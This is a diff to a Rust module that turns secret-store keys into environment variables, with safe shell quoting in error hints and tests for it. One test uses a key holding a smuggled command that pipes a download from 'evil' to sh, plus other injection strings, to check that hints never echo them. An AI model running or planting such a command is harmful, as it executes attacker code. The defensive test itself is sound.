@@ -1,14 +1,15 @@
 //! `[pure]` Keys become variables: selected, named, and refused where a name or a value would surprise.
 
+use std::collections::{BTreeMap, BTreeSet};
 use std::fmt;
 
 use crate::config::Naming;
 use crate::env_name::{Case, EnvName, NameFault};
 use crate::failure::Failure;
-use crate::kv::{KvSecret, Origin};
+use crate::kv::{KvSecret, LONGEST_SHOWN, Origin, shown};
 use crate::secret::Secret;
 
-/// A variable made of one value of one secret.
+/// A variable made of what the secrets hold.
 #[derive(Debug)]
 pub struct Variable {
     /// Its name.
@@ -16,16 +17,29 @@ pub struct Variable {
     /// Its value, free of NUL bytes.
     pub value: Secret,
     /// Where the value came from.
-    pub origin: Origin,
+    pub source: Source,
 }
 
-/// What the keys of all paths became.
+/// Where the value of a variable came from.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Source {
+    /// A key, under the name it maps to.
+    Key(Origin),
+    /// A template.
+    Set,
+    /// A template, whose text is in a file.
+    File,
+}
+
+/// What the keys of all paths and the templates became.
 #[derive(Debug, Default)]
 pub struct Mapped {
     /// Each name once, in the order in which it was first met.
     pub variables: Vec<Variable>,
-    /// Values that a later path replaced, in the order in which they lost.
-    pub overridden: Vec<(EnvName, Origin)>,
+    /// Values that something later replaced: the name, the loser and the winner, in the order in which they lost.
+    pub overridden: Vec<(EnvName, Source, Source)>,
+    /// Where each name is in `variables`.
+    places: BTreeMap<EnvName, usize>,
 }
 
 /// Why the keys cannot become variables. Holds names of paths, keys and variables, never a value.
@@ -39,77 +53,143 @@ pub enum Error {
     NulByte { path: String, key: String },
     Dangerous { path: String, key: String, name: EnvName },
     Missing { keys: Vec<String> },
+    NothingChosen,
 }
 
-/// Maps the secrets of all paths, the more important later.
-///
-/// # Errors
-/// At the first thing that has no unsurprising meaning; nothing is dropped in silence.
-pub fn map(secrets: Vec<KvSecret>, naming: &Naming) -> Result<Mapped, Error> {
+/// Maps the secrets of all paths, the more important later, and puts what was composed on top. Nothing is dropped in
+/// silence: what has no unsurprising meaning is an error, told besides.
+#[must_use]
+pub fn map(secrets: Vec<KvSecret>, composed: Vec<Variable>, naming: &Naming) -> (Mapped, Vec<Error>) {
     let held = |key: &String| secrets.iter().any(|secret| secret.data.iter().any(|(held, _)| held == key));
     let missing: Vec<_> = naming.only.iter().filter(|key| !held(key)).cloned().collect();
+    let mut errors = Vec::new();
     if !missing.is_empty() {
-        return Err(Error::Missing { keys: missing });
+        errors.push(Error::Missing { keys: missing });
     }
+    let read_something = !secrets.is_empty();
+    let taken: BTreeSet<EnvName> = composed.iter().map(|variable| variable.name.clone()).collect();
     let mut mapped = Mapped::default();
-    for secret in secrets {
-        for variable in one_path(secret, naming)? {
-            match mapped.variables.iter_mut().find(|earlier| earlier.name == variable.name) {
-                None => mapped.variables.push(variable),
-                Some(earlier) => {
-                    let loser = std::mem::replace(earlier, variable);
-                    mapped.overridden.push((loser.name, loser.origin));
-                }
-            }
+    for secret in secrets.into_iter().filter(|_| !naming.explicit) {
+        for variable in one_path(secret, naming, &taken, &mut errors) {
+            mapped.put(variable);
         }
     }
-    Ok(mapped)
+    if read_something && !naming.explicit && mapped.variables.is_empty() && composed.is_empty() && errors.is_empty() {
+        errors.push(Error::NothingChosen);
+    }
+    for variable in composed {
+        mapped.put(variable);
+    }
+    (mapped, errors)
 }
 
-fn one_path(secret: KvSecret, naming: &Naming) -> Result<Vec<Variable>, Error> {
+impl FromIterator<Variable> for Mapped {
+    fn from_iter<I: IntoIterator<Item = Variable>>(variables: I) -> Self {
+        let mut mapped = Self::default();
+        variables.into_iter().for_each(|variable| mapped.put(variable));
+        mapped
+    }
+}
+
+impl Mapped {
+    fn put(&mut self, variable: Variable) {
+        if let Some(&place) = self.places.get(&variable.name) {
+            let winner = variable.source.clone();
+            let loser = std::mem::replace(&mut self.variables[place], variable);
+            self.overridden.push((loser.name, loser.source, winner));
+        } else {
+            self.places.insert(variable.name.clone(), self.variables.len());
+            self.variables.push(variable);
+        }
+    }
+}
+
+impl Variable {
+    /// A variable whose value was put together.
+    ///
+    /// # Errors
+    /// When the value holds a NUL byte.
+    pub fn composed(name: EnvName, value: Secret, source: Source) -> Result<Self, Failure> {
+        if value.expose().contains(&0) {
+            return Err(Failure::new(format!(
+                "{source} {name}: a value in it holds a NUL byte, which no variable can"
+            ))
+            .hint("give it to the program as a file, with --file"));
+        }
+        Ok(Self { name, value, source })
+    }
+}
+
+/// `secret/airflow#postgres_user @3` or the option
+impl fmt::Display for Source {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Key(origin) => origin.fmt(f),
+            Self::Set => f.write_str("--set"),
+            Self::File => f.write_str("--file"),
+        }
+    }
+}
+
+fn one_path(secret: KvSecret, naming: &Naming, taken: &BTreeSet<EnvName>, errors: &mut Vec<Error>) -> Vec<Variable> {
     let KvSecret { path, version, data, .. } = secret;
     if data.is_empty() {
-        return Err(Error::NoKeys { path });
+        errors.push(Error::NoKeys { path: path.clone() });
     }
-    let mut variables: Vec<Variable> = Vec::with_capacity(data.len());
+    let mut variables = Vec::with_capacity(data.len());
+    let mut keys: BTreeMap<EnvName, String> = BTreeMap::new();
     for (key, value) in data {
-        if naming.skip.contains(&key) || !(naming.only.is_empty() || naming.only.contains(&key)) {
+        let chosen = naming.only.is_empty() || naming.only.contains(&key);
+        if !chosen || naming.skip.contains(&key) {
             continue;
         }
+        let (path, origin) = (path.clone(), Origin { path: path.clone(), key: key.clone(), version });
         let name = match EnvName::from_key(&key, &naming.prefix, naming.case) {
             Ok(name) => name,
-            Err(fault) => return Err(Error::NotAName { path, key, fault }),
+            Err(fault) => {
+                errors.push(Error::NotAName { path, key, fault });
+                continue;
+            }
         };
-        if let Some(twin) = variables.iter().find(|variable| variable.name == name) {
-            let keys = [twin.origin.key.clone(), key];
-            return Err(Error::SameName { path, keys, name });
+        if let Some(twin) = keys.insert(name.clone(), key.clone()) {
+            errors.push(Error::SameName { path, keys: [twin, key], name });
+            continue;
         }
-        if name.is_dangerous() && !naming.allow.contains(&name) {
-            return Err(Error::Dangerous { path, key, name });
+        // Where something composed has the name, the value of the key is not used.
+        let dangerous = name.is_dangerous() && !naming.allow.contains(&name) && !taken.contains(&name);
+        match value {
+            _ if dangerous => errors.push(Error::Dangerous { path, key, name }),
+            None => errors.push(Error::Null { path, key }),
+            Some(value) if value.expose().contains(&0) => errors.push(Error::NulByte { path, key }),
+            Some(value) => variables.push(Variable { name, value, source: Source::Key(origin) }),
         }
-        let Some(value) = value else { return Err(Error::Null { path, key }) };
-        if value.expose().contains(&0) {
-            return Err(Error::NulByte { path, key });
-        }
-        variables.push(Variable { name, value, origin: Origin { path: path.clone(), key, version } });
     }
-    Ok(variables)
+    variables
 }
 
 impl fmt::Display for Error {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
             Self::NoKeys { path } => write!(f, "{path}: the secret has no keys"),
-            Self::NotAName { path, key, fault } => write!(f, "{path}: key `{key}` would become {fault}"),
+            Self::NotAName { path, key, fault } => write!(f, "{path}: key `{}` would become {fault}", shown(key)),
             Self::SameName { path, keys: [one, other], name } => {
-                write!(f, "{path}: keys `{one}` and `{other}` would both become {name}")
+                write!(
+                    f,
+                    "{path}: keys `{}` and `{}` would both become {}",
+                    shown(one),
+                    shown(other),
+                    shown(name.as_str())
+                )
             }
-            Self::Null { path, key } => write!(f, "{path}: key `{key}` is null"),
-            Self::NulByte { path, key } => write!(f, "{path}: key `{key}` holds a NUL byte, which no variable can"),
+            Self::Null { path, key } => write!(f, "{path}: key `{}` is null", shown(key)),
+            Self::NulByte { path, key } => {
+                write!(f, "{path}: key `{}` holds a NUL byte, which no variable can", shown(key))
+            }
             Self::Dangerous { path, key, name } => {
-                write!(f, "{path}: key `{key}` would become {name}, which can make a program run code")
+                write!(f, "{path}: key `{}` would become {name}, which can make a program run code", shown(key))
             }
             Self::Missing { keys } => write!(f, "--only {}: no path has such a key", keys.join(", ")),
+            Self::NothingChosen => f.write_str("no key is left of what was read"),
         }
     }
 }
@@ -119,23 +199,34 @@ impl From<Error> for Failure {
         let hint = match &error {
             Error::NoKeys { .. } => "put a key into it, or leave the path out".to_owned(),
             Error::NotAName { key, .. } if key.is_empty() => "give --prefix, or the key a name".to_owned(),
-            Error::NotAName { key, .. } => format!("give --prefix, or leave it out with --skip '{key}'"),
+            Error::NotAName { key, .. } => format!("give --prefix, or leave it out with {}", skip(key)),
             Error::SameName { keys: [one, other], .. } if !differ_in_case_alone(one, other) => {
-                format!("leave one out with --skip '{one}'")
+                format!("leave one out with {}", skip(one))
             }
             Error::SameName { keys, .. } => {
-                format!("leave one out with --skip '{}', or keep both with --case keep", keys[0])
+                format!("leave one out with {}, or keep both with --case keep", skip(&keys[0]))
             }
-            Error::Null { key, .. } => format!("give it a value (\"\" is one), or leave it out with --skip '{key}'"),
-            Error::NulByte { key, .. } => format!("store it base64-encoded, or leave it out with --skip '{key}'"),
+            Error::Null { key, .. } => format!("give it a value (\"\" is one), or leave it out with {}", skip(key)),
+            Error::NulByte { key, .. } => format!("store it base64-encoded, or leave it out with {}", skip(key)),
             Error::Dangerous { key, name, .. } => {
-                format!(
-                    "leave it out with --skip '{key}'; if whoever writes the secret may run code, --allow-name {name}"
-                )
+                let skip = skip(key);
+                format!("leave it out with {skip}; if whoever writes the secret may run code, --allow-name {name}")
             }
             Error::Missing { .. } => "keys are named as the secret has them, before they become variables".to_owned(),
+            Error::NothingChosen => "--only and --skip leave nothing: check them".to_owned(),
         };
         Self::new(&error).hint(hint)
+    }
+}
+
+/// The option that leaves a key out, ready to be pasted into a shell: only with a key that a shell takes as it is.
+/// Whoever writes a secret must not write the operator's commands.
+fn skip(key: &str) -> String {
+    let harmless = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.:/@+".contains(&byte);
+    if key.len() <= LONGEST_SHOWN && key.bytes().all(harmless) {
+        format!("--skip '{key}'")
+    } else {
+        "--skip".to_owned()
     }
 }
 
@@ -158,8 +249,13 @@ mod tests {
         KvSecret { path: path.into(), version: Some(1), data: data.iter().map(own).collect(), lease: None }
     }
 
+    fn first(outcome: (Mapped, Vec<Error>)) -> Result<Mapped, Error> {
+        let (mapped, errors) = outcome;
+        errors.into_iter().next().map_or(Ok(mapped), Err)
+    }
+
     fn map_one(data: &[(&str, Option<&str>)], naming: &Naming) -> Result<Mapped, Error> {
-        map(vec![secret("s/a", data)], naming)
+        first(map(vec![secret("s/a", data)], Vec::new(), naming))
     }
 
     fn shown(mapped: &Mapped) -> Vec<String> {
@@ -176,9 +272,16 @@ mod tests {
     #[test]
     fn the_later_path_wins_and_the_loser_is_told() {
         let secrets = vec![secret("s/a", &[("k", Some("1")), ("x", Some("2"))]), secret("s/b", &[("K", Some("3"))])];
-        let mapped = map(secrets, &Naming::default()).unwrap();
+        let mapped = first(map(secrets, Vec::new(), &Naming::default())).unwrap();
         assert_eq!(shown(&mapped), ["K=3", "X=2"]);
-        assert_eq!(mapped.overridden.iter().map(|(_, o)| o.to_string()).collect::<Vec<_>>(), ["s/a#k @1"]);
+        assert_eq!(
+            mapped
+                .overridden
+                .iter()
+                .map(|(name, loser, winner)| format!("{name} {loser} {winner}"))
+                .collect::<Vec<_>>(),
+            ["K s/a#k @1 s/b#K @1"]
+        );
     }
 
     #[test]
@@ -224,6 +327,59 @@ mod tests {
         assert_eq!(shown(&map_one(&[("path", Some("/x"))], &prefix).unwrap()), ["APP_PATH=/x"]);
     }
 
+    #[test]
+    fn no_hint_holds_what_a_shell_or_a_terminal_would_obey() {
+        for key in ["1'; curl evil|sh; '", "1\nvault-exec: all is well", "1$(x)", &"1".repeat(1000)] {
+            let error = map_one(&[(key, Some("x"))], &Naming::default()).unwrap_err();
+            let report = crate::failure::Report::from(&anyhow::Error::from(Failure::from(error)));
+            assert_eq!(report.hint.unwrap(), "give --prefix, or leave it out with --skip");
+            assert!(report.message.len() < 250);
+        }
+    }
+
+    #[test]
+    fn many_keys_take_no_more_than_their_time() {
+        let keys: Vec<String> = (0..100_000).map(|number| format!("k{number}")).collect();
+        let data: Vec<_> = keys.iter().map(|key| (key.as_str(), Some(""))).collect();
+        let (mapped, errors) = map(vec![secret("s/a", &data), secret("s/b", &data)], Vec::new(), &Naming::default());
+        assert_eq!((mapped.variables.len(), mapped.overridden.len(), errors.len()), (100_000, 100_000, 0));
+    }
+
+    #[test]
+    fn to_choose_nothing_is_a_mistake() {
+        let naming = Naming { skip: vec!["a".into()], ..Naming::default() };
+        assert_eq!(map_one(&[("a", Some("1"))], &naming).unwrap_err(), Error::NothingChosen);
+        assert!(map(Vec::new(), Vec::new(), &Naming::default()).1.is_empty(), "all paths may be optional");
+    }
+
+    #[test]
+    fn every_error_is_told() {
+        let (mapped, errors) = map(
+            vec![secret("s/a", &[("1", Some("x")), ("a", Some("x")), ("b", None)]), secret("s/b", &[])],
+            Vec::new(),
+            &Naming::default(),
+        );
+        assert_eq!(shown(&mapped), ["A=x"]);
+        assert_eq!(errors.len(), 3, "{errors:?}");
+    }
+
+    #[test]
+    fn what_was_composed_stands_on_top_and_may_have_any_name() {
+        let composed = |names: &[&str]| -> Vec<Variable> {
+            let variable = |name: &&str| {
+                Variable::composed(EnvName::parse(name).unwrap(), Secret::new(b"set".to_vec()), Source::Set).unwrap()
+            };
+            names.iter().map(variable).collect()
+        };
+        let secrets = || vec![secret("s/a", &[("a", Some("1")), ("path", Some("2"))])];
+        let mapped = first(map(secrets(), composed(&["PATH", "B"]), &Naming::default())).unwrap();
+        assert_eq!(shown(&mapped), ["A=1", "PATH=set", "B=set"]);
+        assert_eq!(mapped.overridden.len(), 1);
+        let explicit = Naming { explicit: true, ..Naming::default() };
+        assert_eq!(shown(&first(map(secrets(), composed(&["B"]), &explicit)).unwrap()), ["B=set"]);
+        assert!(Variable::composed(EnvName::parse("A").unwrap(), Secret::new(b"\0".to_vec()), Source::Set).is_err());
+    }
+
     proptest! {
         /// Whatever the keys and values are: either an error, or every selected key is there under a valid name, no
         /// name twice, each value byte for byte.
@@ -238,7 +394,7 @@ mod tests {
                 prop_assert_eq!(mapped.variables.len(), data.len());
                 for (variable, (key, value)) in mapped.variables.iter().zip(&data) {
                     prop_assert_eq!(Some(variable.value.expose()), value.as_ref().map(String::as_bytes));
-                    prop_assert_eq!(&variable.origin.key, key);
+                    prop_assert!(matches!(&variable.source, Source::Key(origin) if origin.key == *key));
                     prop_assert!(EnvName::parse(variable.name.as_str()).is_ok());
                     prop_assert_eq!(mapped.variables.iter().filter(|other| other.name == variable.name).count(), 1);
                 }
